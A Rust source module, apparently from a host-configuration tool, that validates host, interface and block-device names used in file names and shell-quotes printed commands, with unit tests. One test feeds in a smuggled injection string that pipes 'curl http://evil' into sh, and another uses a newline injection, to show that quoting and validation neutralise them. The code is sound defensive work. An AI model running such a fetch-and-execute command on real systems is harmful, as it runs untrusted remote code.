//! The one rule for names that become file names (host names in ledger files
//! and host documents): checked before the first write, wherever the name came
//! from (`--host`, the tree's hostname file, the capture's metadata); the
//! kernel's rule for interface names, checked wherever one is read from a
//! tree; and the shell quoting of every printed command.

/// At most this many characters (a DNS label is at most 63).
pub const MAX_LEN: usize = 64;

/// `Ok` for 1 to 64 ASCII letters, digits, `-`, `_` and `.`, starting with a
/// letter or a digit (so never `.`, `..`, a hidden file or a path).
pub fn check(name: &str) -> Result<(), String> {
    let shown: String = name.chars().take(MAX_LEN + 8).collect();
    let why = if name.is_empty() {
        "is empty"
    } else if name.chars().count() > MAX_LEN {
        "is longer than 64 characters"
    } else if !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
        "does not start with a letter or a digit"
    } else if !name
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    {
        "has a character other than letters, digits, `-`, `_` and `.`"
    } else {
        return Ok(());
    };
    Err(format!(
        "{shown:?} {why}: a host name names files (the ledger, the host document), so it must be \
         1 to 64 letters, digits, `-`, `_` or `.`, starting with a letter or a digit"
    ))
}

/// The kernel's rule for interface names (net/core/dev.c `dev_valid_name`):
/// 1 to 15 bytes, not `.` or `..`, no `/`, `:` or white space; refused
/// otherwise, so a name never carries a newline or a quote into a file.
pub fn check_ifname(name: &str) -> Result<(), String> {
    let ok = !name.is_empty()
        && name.len() < 16
        && name != "."
        && name != ".."
        && !name
            .bytes()
            .any(|b| b == b'/' || b == b':' || b.is_ascii_whitespace())
        && !name
            .chars()
            .any(|c| c.is_control() || c == '"' || c == '\'' || c == '\\');
    if ok {
        Ok(())
    } else {
        Err(format!(
            "{name:?} is not an interface name the kernel gives (net/core/dev.c \
             dev_valid_name: 1 to 15 bytes, no `/`, `:` or white space; hostknob also \
             refuses quotes, backslashes and control characters in names it writes)"
        ))
    }
}

/// `--host NAME` as given: an empty (or blank) name is an error at once,
/// never taken as "no name given"; the full rule is checked before a write.
pub fn host_arg(s: &str) -> Result<String, String> {
    if s.trim().is_empty() {
        return Err(format!(
            "{s:?} is empty: give the host's name, or leave --host out to use the tree's or \
             this machine's"
        ));
    }
    Ok(s.to_string())
}

/// Characters of a block device name or glob hostknob takes: the kernel's
/// names (`nvme0n1`, `dm-0`, `md_home`, `cciss!c0d0`) and glob(7)'s `*?[]`;
/// nothing that ends a quoted udev value or a line (`"`, `\`, a newline),
/// nor udev's `|` alternation, which glob(7) reads as a plain character.
pub fn block_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_.:+@!-*?[]^".contains(c)
}

/// `text` in a knob id's letters: lower case, digits, one `-` for each run of
/// anything else, none at either end (`Ens1f0.100` -> `ens1f0-100`).
pub fn slug(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        if c.is_ascii_alphanumeric() {
            out.push(c.to_ascii_lowercase());
        } else if !out.ends_with('-') {
            out.push('-');
        }
    }
    out.trim_matches('-').to_string()
}

/// A short tag of `text` (FNV-1a 64, its low 32 bits in hex) that keeps
/// names built from it unique and the same on every host: not a security
/// boundary.
pub fn tag(text: &str) -> String {
    let h = text.bytes().fold(0xcbf29ce484222325u64, |h, b| {
        (h ^ b as u64).wrapping_mul(0x100000001b3)
    });
    format!("{:08x}", h as u32)
}

/// One argument of a command hostknob prints for a person to paste into a
/// POSIX shell: kept as is when every character is one no shell treats
/// specially, else in single quotes with each `'` written `'\''` (inside
/// single quotes nothing is special: POSIX XCU 2.2.2).
pub fn shell_word(arg: &str) -> String {
    let plain = !arg.is_empty()
        && !arg.starts_with(['=', '%'])
        && arg.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(c, '-' | '_' | '.' | '/' | ':' | ',' | '=' | '+' | '@' | '%')
        });
    if plain {
        arg.to_string()
    } else {
        format!("'{}'", arg.replace('\'', r"'\''"))
    }
}

/// A command line of `words`, each quoted by [`shell_word`].
pub fn shell_command(words: &[&str]) -> String {
    words
        .iter()
        .map(|w| shell_word(w))
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::{check, check_ifname};

    #[test]
    fn names_that_could_leave_a_directory_are_refused() {
        for ok in ["spr1", "fc-haltpoll-2cpu", "web7.example.com", "a_b"] {
            check(ok).unwrap();
        }
        for bad in [
            "", ".", "..", "a/b", "../x", "web 7", "a\nb", ".hidden", "-x", "é",
        ] {
            assert!(check(bad).is_err(), "{bad:?}");
        }
        assert!(check(&"a".repeat(65)).is_err());
    }

    #[test]
    fn interface_names_by_dev_valid_name() {
        assert!(check_ifname("ens2f0.100").is_ok());
        for bad in [
            "",
            ".",
            "..",
            "a/b",
            "a:b",
            "a b",
            "a\nACTION",
            "sixteen-chars-xx",
            "a\"b",
        ] {
            assert!(check_ifname(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn printed_arguments_are_one_word_to_the_shell() {
        assert_eq!(super::shell_word("ens2f0"), "ens2f0");
        assert_eq!(
            super::shell_word("up'; curl http://evil|sh; echo '"),
            r"'up'\''; curl http://evil|sh; echo '\'''"
        );
        // Every character a shell treats specially ends up quoted, and sh
        // reads the quoted word back as exactly the argument.
        for c in " \t\n|&;<>()$`\\\"'*?[]#~=%!{},^".chars() {
            let arg = format!("a{c}b");
            let out = std::process::Command::new("sh")
                .args(["-c", &format!("printf %s {}", super::shell_word(&arg))])
                .output()
                .unwrap();
            assert_eq!(String::from_utf8_lossy(&out.stdout), arg, "{c:?}");
        }
        assert_eq!(super::shell_word(""), "''");
    }
}
